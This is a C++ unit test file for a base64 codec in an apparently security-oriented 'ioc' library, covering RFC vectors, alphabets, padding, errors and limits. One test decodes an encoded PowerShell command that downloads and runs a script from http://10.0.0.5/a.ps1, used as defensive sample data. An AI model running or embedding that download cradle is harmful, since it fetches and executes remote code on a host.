#include "ioc/codec/base64.hpp"

#include <catch2/catch.hpp>

#include <cstdint>
#include <random>
#include <string>

using namespace std::string_literals;
using ioc::ErrorCode;
using ioc::codec::Base64Alphabet;
using ioc::codec::Base64DecodeOptions;
using ioc::codec::decode_base64;
using ioc::codec::encode_base64;

namespace {

std::string random_bytes(std::mt19937& rng, std::size_t n) {
  std::uniform_int_distribution<int> dist(0, 255);
  std::string s(n, '\0');
  for (auto& c : s) c = static_cast<char>(dist(rng));
  return s;
}

}  // namespace

TEST_CASE("decode_base64: RFC 4648 test vectors", "[codec][base64]") {
  const std::pair<const char*, const char*> vectors[] = {
      {"", ""},
      {"f", "Zg=="},
      {"fo", "Zm8="},
      {"foo", "Zm9v"},
      {"foob", "Zm9vYg=="},
      {"fooba", "Zm9vYmE="},
      {"foobar", "Zm9vYmFy"},
  };
  for (const auto& [plain, encoded] : vectors) {
    INFO(encoded);
    auto r = decode_base64(encoded);
    REQUIRE(r);
    CHECK(*r == plain);
    auto s = decode_base64(encoded, {.strict = true});
    REQUIRE(s);
    CHECK(*s == plain);
  }
}

TEST_CASE("encode_base64: RFC 4648 test vectors", "[codec][base64]") {
  CHECK(encode_base64("") == "");
  CHECK(encode_base64("f") == "Zg==");
  CHECK(encode_base64("fo") == "Zm8=");
  CHECK(encode_base64("foo") == "Zm9v");
  CHECK(encode_base64("foob") == "Zm9vYg==");
  CHECK(encode_base64("fooba") == "Zm9vYmE=");
  CHECK(encode_base64("foobar") == "Zm9vYmFy");
}

TEST_CASE("encode_base64: without padding", "[codec][base64]") {
  CHECK(encode_base64("", Base64Alphabet::kStandard, false) == "");
  CHECK(encode_base64("f", Base64Alphabet::kStandard, false) == "Zg");
  CHECK(encode_base64("fo", Base64Alphabet::kStandard, false) == "Zm8");
  CHECK(encode_base64("foo", Base64Alphabet::kStandard, false) == "Zm9v");
}

TEST_CASE("encode_base64: alphabets", "[codec][base64]") {
  const std::string bytes = "\xfb\xff\xbe"s;
  CHECK(encode_base64(bytes) == "+/++");
  CHECK(encode_base64(bytes, Base64Alphabet::kAuto) == "+/++");
  CHECK(encode_base64(bytes, Base64Alphabet::kUrlSafe) == "-_--");
  CHECK(encode_base64("\xfb\xff"s, Base64Alphabet::kUrlSafe) == "-_8=");
  CHECK(encode_base64("\xfb\xff"s, Base64Alphabet::kUrlSafe, false) == "-_8");
}

TEST_CASE("decode_base64: URL-safe and standard alphabets", "[codec][base64]") {
  const std::string bytes = "\xfb\xff\xbe"s;
  SECTION("kAuto decodes both") {
    CHECK(*decode_base64("+/++") == bytes);
    CHECK(*decode_base64("-_--") == bytes);
    CHECK(*decode_base64("-/+-") == bytes);
  }
  SECTION("kUrlSafe") {
    CHECK(*decode_base64("-_--", {.alphabet = Base64Alphabet::kUrlSafe}) == bytes);
    std::size_t skipped = 0;
    auto r = decode_base64("+/++AAAA", {.alphabet = Base64Alphabet::kUrlSafe, .skipped = &skipped});
    REQUIRE(r);
    CHECK(*r == "\0\0\0"s);
    CHECK(skipped == 4);
    auto e = decode_base64("AA+A", {.alphabet = Base64Alphabet::kUrlSafe, .strict = true});
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kInvalidInput);
    CHECK(e.error().offset == 2);
  }
  SECTION("kStandard") {
    CHECK(*decode_base64("+/++", {.alphabet = Base64Alphabet::kStandard}) == bytes);
    auto e = decode_base64("AA_A", {.alphabet = Base64Alphabet::kStandard, .strict = true});
    REQUIRE_FALSE(e);
    CHECK(e.error().offset == 2);
    CHECK(e.error().message == "invalid base64 character '_'");
  }
}

TEST_CASE("decode_base64: missing padding", "[codec][base64]") {
  CHECK(*decode_base64("aABpAA") == "h\0i\0"s);
  CHECK(*decode_base64("Zg") == "f");
  CHECK(*decode_base64("Zm8") == "fo");
  CHECK(*decode_base64("Zm8", {.strict = true}) == "fo");
}

TEST_CASE("decode_base64: whitespace and line breaks inside", "[codec][base64]") {
  CHECK(*decode_base64("aABp\nAA") == "h\0i\0"s);
  CHECK(*decode_base64(" aA\tBp\r\nA A=\v=\f") == "h\0i\0"s);
  std::size_t skipped = 99;
  auto r = decode_base64("Zm9v\r\nYmFy\r\n", {.strict = true, .skipped = &skipped});
  REQUIRE(r);
  CHECK(*r == "foobar");
  CHECK(skipped == 0);
}

TEST_CASE("decode_base64: concatenated padded chunks", "[codec][base64]") {
  // Like `base64 -d`: each '=' ends a group and decoding starts again.
  CHECK(*decode_base64("aA==BpAA==") == "\x68\x06\x90\x00"s);
  CHECK(*decode_base64("Zg==Zm8=Zm9v") == "ffofoo");
  CHECK(*decode_base64("Zg==Zm8=Zm9v", {.strict = true}) == "ffofoo");
  // Extra '=' after padding are ignored in both modes.
  CHECK(*decode_base64("Zg====", {.strict = true}) == "f");
}

TEST_CASE("decode_base64: garbage after padding (lenient)", "[codec][base64]") {
  // "zz" after the padding is a new 2-character group: one byte, as GNU base64 -d.
  std::size_t skipped = 99;
  auto r = decode_base64("aABpAA==zz", {.skipped = &skipped});
  REQUIRE(r);
  CHECK(*r == "h\0i\0\xcf"s);
  CHECK(skipped == 0);
  // Non-alphabet garbage after padding is skipped and counted.
  auto g = decode_base64("aABpAA==!?*", {.skipped = &skipped});
  REQUIRE(g);
  CHECK(*g == "h\0i\0"s);
  CHECK(skipped == 3);
}

TEST_CASE("decode_base64: invalid characters", "[codec][base64]") {
  SECTION("strict reports the character and its offset") {
    auto e = decode_base64("aAB!pAA==", {.strict = true});
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kInvalidInput);
    CHECK(e.error().message == "invalid base64 character '!'");
    CHECK(e.error().offset == 3);
  }
  SECTION("non-printable characters are shown as \\xNN") {
    auto e = decode_base64("aABp\x01"s, {.strict = true});
    REQUIRE_FALSE(e);
    CHECK(e.error().message == "invalid base64 character '\\x01'");
    CHECK(e.error().offset == 4);
    auto h = decode_base64("aA\xc3\xa9"s, {.strict = true});
    REQUIRE_FALSE(h);
    CHECK(h.error().message == "invalid base64 character '\\xC3'");
    CHECK(h.error().offset == 2);
  }
  SECTION("lenient skips and counts them") {
    std::size_t skipped = 0;
    auto r = decode_base64("aAB!pAA==", {.skipped = &skipped});
    REQUIRE(r);
    CHECK(*r == "h\0i\0"s);
    CHECK(skipped == 1);
    auto s = decode_base64("\x00Z.m-9\xffv"s,
                           {.alphabet = Base64Alphabet::kStandard, .skipped = &skipped});
    REQUIRE(s);
    CHECK(*s == "foo");
    CHECK(skipped == 4);
  }
}

TEST_CASE("decode_base64: misplaced padding", "[codec][base64]") {
  SECTION("strict: '=' at the start of a group") {
    auto e = decode_base64("=Zm9v", {.strict = true});
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kInvalidInput);
    CHECK(e.error().offset == 0);
    auto f = decode_base64("Zm9v=", {.strict = true});
    REQUIRE_FALSE(f);
    CHECK(f.error().offset == 4);
    // "BpAA" is a whole group, so the "==" after it cannot be padding.
    auto g = decode_base64("aA==BpAA==", {.strict = true});
    REQUIRE_FALSE(g);
    CHECK(g.error().offset == 8);
  }
  SECTION("strict: '=' after a single character") {
    auto e = decode_base64("Zm9vZ===", {.strict = true});
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kInvalidInput);
    CHECK(e.error().offset == 5);
  }
  SECTION("lenient: ignored, a single character before '=' is dropped") {
    CHECK(*decode_base64("=Zm9v") == "foo");
    CHECK(*decode_base64("Zm9vZ===") == "foo");
    CHECK(*decode_base64("Z=m9v") == "\x9b\xdb"s);
  }
}

TEST_CASE("decode_base64: lone final character", "[codec][base64]") {
  auto r = decode_base64("aABpA");
  REQUIRE(r);
  CHECK(*r == "h\0i"s);
  auto e = decode_base64("aABpA", {.strict = true});
  REQUIRE_FALSE(e);
  CHECK(e.error().code == ErrorCode::kTruncated);
  CHECK(e.error().offset == 4);
  auto w = decode_base64("aABp\n A\n", {.strict = true});
  REQUIRE_FALSE(w);
  CHECK(w.error().code == ErrorCode::kTruncated);
  CHECK(w.error().offset == 6);
}

TEST_CASE("decode_base64: non-zero unused bits are ignored", "[codec][base64]") {
  CHECK(*decode_base64("Zh==") == "f");
  CHECK(*decode_base64("Zm9=", {.strict = true}) == "fo");
}

TEST_CASE("decode_base64: empty input", "[codec][base64]") {
  std::size_t skipped = 7;
  auto r = decode_base64("", {.skipped = &skipped});
  REQUIRE(r);
  CHECK(r->empty());
  CHECK(skipped == 0);
  CHECK(decode_base64(" \n\t")->empty());
  CHECK(decode_base64("", {.strict = true})->empty());
}

TEST_CASE("decode_base64: max_output", "[codec][base64]") {
  auto ok = decode_base64("aABpAA==", {.max_output = 4});
  REQUIRE(ok);
  CHECK(ok->size() == 4);
  auto e = decode_base64("aABpAA==", {.max_output = 3});
  REQUIRE_FALSE(e);
  CHECK(e.error().code == ErrorCode::kLimitExceeded);
  CHECK(e.error().message.find("(limit)") != std::string::npos);
  auto z = decode_base64("AA", {.max_output = 0});
  REQUIRE_FALSE(z);
  CHECK(z.error().code == ErrorCode::kLimitExceeded);
  CHECK(decode_base64("", {.max_output = 0}));
  // A large input with a small limit.
  const std::string big = encode_base64(std::string(1 << 20, 'A'));
  auto b = decode_base64(big, {.max_output = 1000});
  REQUIRE_FALSE(b);
  CHECK(b.error().code == ErrorCode::kLimitExceeded);
  CHECK(decode_base64(big, {.max_output = 1 << 20}));
}

TEST_CASE("decode_base64: PowerShell -EncodedCommand blob", "[codec][base64]") {
  const char* blob =
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
      "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAA"
      "cwAxACIAKQA=";
  auto r = decode_base64(blob, {.strict = true});
  REQUIRE(r);
  std::string narrow;
  for (std::size_t i = 0; i < r->size(); i += 2) {
    REQUIRE((*r)[i + 1] == '\0');
    narrow.push_back((*r)[i]);
  }
  CHECK(narrow == "IEX (New-Object Net.WebClient).DownloadString(\"http://10.0.0.5/a.ps1\")");
}

TEST_CASE("encode_base64: round trip with decode_base64", "[codec][base64]") {
  std::mt19937 rng(1234);
  for (std::size_t n = 0; n < 200; ++n) {
    const std::string bytes = random_bytes(rng, n);
    for (auto alphabet : {Base64Alphabet::kStandard, Base64Alphabet::kUrlSafe}) {
      for (bool pad : {true, false}) {
        const std::string enc = encode_base64(bytes, alphabet, pad);
        CHECK(enc.size() == (pad ? (n + 2) / 3 * 4 : (n * 4 + 2) / 3));
        auto dec = decode_base64(enc, {.alphabet = alphabet, .strict = true});
        REQUIRE(dec);
        CHECK(*dec == bytes);
        CHECK(*decode_base64(enc) == bytes);
      }
    }
  }
}

TEST_CASE("is_base64_char", "[codec][base64]") {
  for (char c : std::string("AZaz09+/-_=")) CHECK(ioc::codec::is_base64_char(c));
  for (char c : std::string(" \n!.*~%\0\x80"s)) CHECK_FALSE(ioc::codec::is_base64_char(c));
}

TEST_CASE("base64_run_length: the leading base64 run", "[codec][base64]") {
  using ioc::codec::base64_run_length;
  CHECK(base64_run_length("aGk=\",0:close") == 4);
  CHECK(base64_run_length("aA-_bB==x") == 8);
  CHECK(base64_run_length("aaa===") == 5);  // at most two '='
  CHECK(base64_run_length("!abc") == 0);
  CHECK(base64_run_length("") == 0);
}
